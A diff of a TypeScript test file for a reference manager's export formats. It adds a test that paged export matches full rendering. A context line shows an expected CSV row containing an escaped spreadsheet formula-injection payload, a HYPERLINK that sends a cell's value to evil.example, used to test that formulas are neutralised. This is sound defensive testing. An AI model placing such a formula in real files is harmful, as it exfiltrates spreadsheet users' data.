@@ -3,6 +3,7 @@ import { describe, expect, it } from 'vitest';
 import type { Candidate } from '../../src/db/queries/candidates.js';
 import { renderBibtex } from '../../src/exports/bibtex.js';
 import { renderCsv } from '../../src/exports/csv.js';
+import { EXPORT_FORMATS, exportChunks, renderExport } from '../../src/exports/index.js';
 import { pageSpan } from '../../src/exports/pages.js';
 import { renderRis } from '../../src/exports/ris.js';
 import { readRecords } from '../../src/imports/readers/index.js';
@@ -105,5 +106,27 @@ describe('CSV export', () => {
       ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'@Journal", "'+Plus A", '-3'],
       ["'-2+3 cmd", 'Int J Drug Policy', 'Mercer F; Peer Network Study Group', '1116-22'],
     ]);
+  });
+});
+
+describe('exports a page at a time', () => {
+  it('writes exactly what one rendering of every work writes, for every format and any paging', async () => {
+    const all = [work(), work({ id: 8, title: 'Second' }), work({ id: 9, title: 'Third', pmcid: 'PMC9' })];
+    async function* pages(sizes: number[]) {
+      let i = 0;
+      for (const n of sizes) yield all.slice(i, (i += n));
+    }
+    for (const format of EXPORT_FORMATS) {
+      for (const sizes of [[3], [1, 2], [1, 1, 1]]) {
+        let text = '';
+        for await (const chunk of exportChunks(format, pages(sizes))) text += chunk;
+        expect(text, `${format} ${sizes}`).toBe(renderExport(format, all));
+      }
+      let none = '';
+      for await (const chunk of exportChunks(format, pages([]))) none += chunk;
+      expect(none).toBe(renderExport(format, []));
+    }
+    expect(renderExport('json', all)).toBe(JSON.stringify(all, null, 2) + '\n');
+    expect(renderExport('json', [])).toBe('[]\n');
   });
 });
